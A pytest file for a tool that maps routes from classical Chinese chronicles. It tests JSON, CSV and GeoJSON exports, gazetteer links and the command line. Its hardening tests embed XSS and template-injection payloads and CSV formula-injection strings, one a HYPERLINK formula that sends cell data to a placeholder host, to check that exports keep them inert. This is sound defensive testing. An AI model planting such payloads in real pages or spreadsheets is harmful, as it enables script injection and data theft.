"""Exports: JSON in the documented shape, CSV rows, Linked Places GeoJSON."""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from route.corpus import load_text
from route.export import LPF_CONTEXT, to_csv, to_geojson, to_json
from route.places.gazetteer import DEFAULT_PLACES, load_gazetteer
from route.itinerary import build_itinerary
from route.places.chgis import TGAZ_URL

ROOT = Path(__file__).resolve().parent.parent
CHAPTER = ROOT / "corpus" / "zhenguan19_retreat_from_anshi.txt"


@pytest.fixture(scope="module")
def itinerary():
    return build_itinerary(load_text(CHAPTER), load_gazetteer(DEFAULT_PLACES))


def test_json_shape(itinerary) -> None:
    data = json.loads(to_json(itinerary))
    assert {"source", "context", "stops", "en_route", "warnings"} <= set(data)
    first = data["stops"][0]
    assert {"seq", "place", "place_id", "lat", "lon", "uncertainty_km", "first_line", "last_line",
            "date", "leg_km", "events"} <= set(first)
    assert (first["seq"], first["place"], first["first_line"], first["last_line"]) == (1, "安市城", 3, 10)
    assert {"label", "precision", "jdn_start", "jdn_end", "julian_start", "julian_end"} <= set(first["date"])
    assert {"line", "text", "date"} <= set(first["events"][0])
    assert data["en_route"][0]["after_stop"] == 5
    assert {"line", "kind", "message"} <= set(data["warnings"][0])


def test_csv_has_one_row_per_stop(itinerary) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(itinerary))))
    assert [r["place"] for r in rows] == [s.place.name for s in itinerary.stops]
    assert rows[0]["julian_start"] == "0645-10-13"


def _check_lpf_feature(feature: dict) -> None:
    """The LPF fields we emit, checked by hand (a schema check, no network)."""
    assert feature["type"] == "Feature" and feature["@id"]
    geometry = feature["geometry"]
    if geometry["type"] == "Point":
        lon, lat = geometry["coordinates"]
        assert 60 < lon < 150 and 15 < lat < 55, "coordinates must be [lon, lat]"
        assert isinstance(feature["properties"]["seq"], int)
        assert all(set(n) == {"toponym", "lang"} and n["toponym"] for n in feature["names"])
        for span in feature.get("when", {}).get("timespans", []):
            assert span["start"]["earliest"] <= span["end"]["latest"]
            assert len(span["start"]["earliest"].split("-")[0]) == 4  # ISO 8601 year
        assert all(link["type"] and ":" in link["identifier"] for link in feature["links"])
    else:
        assert geometry["type"] == "LineString" and len(geometry["coordinates"]) >= 2


def test_geojson_is_linked_places(itinerary) -> None:
    data = json.loads(to_geojson(itinerary))
    assert data["type"] == "FeatureCollection" and data["@context"] == LPF_CONTEXT
    for feature in data["features"]:
        _check_lpf_feature(feature)
    points = [f for f in data["features"] if f["geometry"]["type"] == "Point"]
    assert [f["properties"]["seq"] for f in points] == list(range(1, len(itinerary.stops) + 1))
    assert points[0]["when"]["timespans"][0]["start"]["earliest"] == "0645-10-16"  # Gregorian


# -- gazetteer layers: each stop says which gazetteer placed it, a CHGIS stop links its TGAZ record --

# 僖宗 flees 长安 (in data/places.csv) for 兴元府 and 绵州 (资治通鉴 卷254), which only CHGIS has.
MIXED = "广明元年十二月甲申，上至长安。丁酉，至兴元府。中和元年正月辛未，至绵州。"
LAYERS = [("长安", "curated"), ("兴元府", "chgis"), ("绵州", "chgis")]


@pytest.fixture(scope="module")
def mixed():
    return build_itinerary(MIXED, load_gazetteer(DEFAULT_PLACES))


def _json_layers(it) -> dict[str, tuple[str, str | None]]:
    return {s["place"]: (s["layer"], s["tgaz"]) for s in json.loads(to_json(it))["stops"]}


def _csv_layers(it) -> dict[str, tuple[str, str | None]]:
    return {r["place"]: (r["layer"], r["tgaz"] or None) for r in csv.DictReader(io.StringIO(to_csv(it)))}


def _lpf_layers(it) -> dict[str, tuple[str, str | None]]:
    points = [f for f in json.loads(to_geojson(it))["features"] if f["geometry"]["type"] == "Point"]
    return {f["properties"]["title"]: (f["properties"]["layer"], next(
        (link["identifier"] for link in f["links"] if link["identifier"].startswith(TGAZ_URL)), None))
        for f in points}


@pytest.mark.parametrize("layers", [_json_layers, _csv_layers, _lpf_layers], ids=["json", "csv", "geojson"])
@pytest.mark.parametrize(("name", "layer"), LAYERS)
def test_every_export_says_the_layer_and_links_chgis_stops(mixed, layers, name, layer) -> None:
    place = next(s.place for s in mixed.stops if s.place.name == name)
    # A CHGIS record's id is its TGAZ id; a curated stop has no TGAZ link.
    expected = TGAZ_URL + place.id if layer == "chgis" else None
    assert layers(mixed)[name] == (layer, expected)


def test_chgis_off_leaves_only_curated_stops() -> None:
    # Without the layer, 兴元府 and 绵州 are unknown names, not stops.
    it = build_itinerary(MIXED, load_gazetteer(DEFAULT_PLACES), chgis=False)
    assert _json_layers(it) == {"长安": ("curated", None)}


def test_old_columns_stay_and_lpf_links_are_urls(mixed) -> None:
    # A consumer of the old CSV finds its columns where they were; the new two come last.
    header = next(csv.reader(io.StringIO(to_csv(mixed))))
    assert header == [
        "seq", "place", "place_id", "written", "lat", "lon", "uncertainty_km", "first_line", "last_line",
        "label", "precision", "jdn_start", "jdn_end", "julian_start", "julian_end", "gregorian_start",
        "gregorian_end", "leg_km", "leg_days", "km_per_day", "layer", "tgaz"]
    points = [f for f in json.loads(to_geojson(mixed))["features"] if f["geometry"]["type"] == "Point"]
    for feature in points:
        _check_lpf_feature(feature)
        # LPF identifiers are URLs: tgaz:hvd_116021 becomes its TGAZ page.
        assert not any(link["identifier"].startswith("tgaz:") for link in feature["links"])


@pytest.mark.parametrize("flag", ["--json", "--csv", "--geojson", None])
def test_cli_itinerary(flag: str | None) -> None:
    args = [sys.executable, "-m", "route", "itinerary", str(CHAPTER)] + ([flag] if flag else [])
    done = subprocess.run(args, cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    if flag in ("--json", "--geojson"):
        json.loads(done.stdout)
    assert "安市城" in done.stdout


def test_cli_bad_file_exits_2_without_traceback(tmp_path: Path) -> None:
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")
    done = subprocess.run([sys.executable, "-m", "route", "itinerary", str(empty)],
                          cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 2
    assert "empty.txt" in done.stderr and "Traceback" not in done.stderr


# -- hardening: hostile text stays data in every export ------------------------------------------

DATA = ROOT / "tests" / "data"
# Template syntax in the passage and in a place's name, on top of the markup of the fixture.
HOSTILE_TEXT = (DATA / "itinerary_hostile.txt").read_text(encoding="utf-8") + (
    "十月十一日，大军渡辽水。{{ 7*7 }} ${alert(1)}\n十月十三日，大军至{{ 7*7 }}城。`);alert(1);//\n")


@pytest.fixture(scope="module")
def hostile():
    from route.corpus import parse_text

    gazetteer = load_gazetteer(DATA / "gazetteer_hostile.csv")
    return build_itinerary(parse_text(HOSTILE_TEXT, name="<b>hostile</b>.txt"), gazetteer, context="贞观十九年九月")


def test_hostile_text_round_trips_through_json(hostile) -> None:
    # JSON is data: markup, links and template syntax come back exactly as written, never evaluated.
    data = json.loads(to_json(hostile))
    assert data["source"] == "<b>hostile</b>.txt"
    assert [s["written"] for s in data["stops"]] == [
        "<script>alert(1)</script>城", "辽水", "<img src=x onerror=alert(1)>", "辽水", "{{ 7*7 }}城"]
    assert data["stops"][0]["place"] == "<script>alert(1)</script>城"
    assert data["stops"][4]["events"][0]["text"] == "十月十三日，大军至{{ 7*7 }}城"
    assert "49" not in to_json(hostile)


def test_hostile_text_round_trips_through_csv(hostile) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(hostile))))
    assert [r["written"] for r in rows] == [s.written for s in hostile.stops]
    assert all(r["place"] == "<script>alert(1)</script>城" for r in rows if r["place_id"] == "xss-cheng")


@pytest.mark.parametrize("match", [
    'tgaz:hvd_1"><script>alert(1)</script>',  # markup after a real-looking id: no link from it
    "tgaz:hvd_1",  # well formed, but the row is curated: only CHGIS stops link TGAZ
])
def test_a_curated_tgaz_match_is_no_chgis_link(match: str) -> None:
    from route.places.gazetteer import parse_gazetteer

    header = "id,name,variants,kind,lat,lon,uncertainty_km,modern,valid_from,valid_to,source,matches,notes"
    quoted = match.replace('"', '""')
    gazetteer = parse_gazetteer(f'{header}\nx,辽水,,river,41.5,122.7,30,,,,,"{quoted}",\n', "g.csv")
    it = build_itinerary("九月二十一日，大军至辽水。", gazetteer, context="贞观十九年九月")
    assert _json_layers(it) == _csv_layers(it) == {"辽水": ("curated", None)}
    (link,) = json.loads(to_geojson(it))["features"][0]["links"]
    # JSON is data: the forged match comes back as written; a well-formed one as its URL.
    assert link["identifier"] == (TGAZ_URL + "hvd_1" if match == "tgaz:hvd_1" else match)


def test_hostile_text_round_trips_through_geojson(hostile) -> None:
    data = json.loads(to_geojson(hostile))
    points = [f for f in data["features"] if f["geometry"]["type"] == "Point"]
    assert [f["names"][0]["toponym"] for f in points] == [s.written for s in hostile.stops]
    assert points[0]["properties"]["title"] == "<script>alert(1)</script>城"
    for feature in data["features"]:
        _check_lpf_feature(feature)


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        # A spreadsheet runs these as formulas (=HYPERLINK can send data away): start them with '.
        ("=HYPERLINK(\"http://x/\"&A1)", "'=HYPERLINK(\"http://x/\"&A1)"),
        ("+1+1城", "'+1+1城"),
        ("-1城", "'-1城"),
        ("@SUM(A1)城", "'@SUM(A1)城"),
        ("辽水", "辽水"),  # ordinary names are untouched
    ],
)
def test_csv_cells_are_never_formulas(name: str, cell: str) -> None:
    from route.places.gazetteer import parse_gazetteer

    header = "id,name,variants,kind,lat,lon,uncertainty_km,modern,valid_from,valid_to,source,matches,notes"
    quoted = name.replace('"', '""')
    gazetteer = parse_gazetteer(f'{header}\nx,"{quoted}",,river,41.5,-122.7,30,,,,,,\n', "g.csv")
    it = build_itinerary(f"九月二十一日，大军至{name}。", gazetteer, context="贞观十九年九月")
    (row,) = csv.DictReader(io.StringIO(to_csv(it)))
    assert (row["place"], row["written"]) == (cell, cell)
    assert row["lon"] == "-122.7"  # numbers are not text: a negative longitude stays a number
    assert json.loads(to_json(it))["stops"][0]["place"] == name  # JSON keeps the name as it is
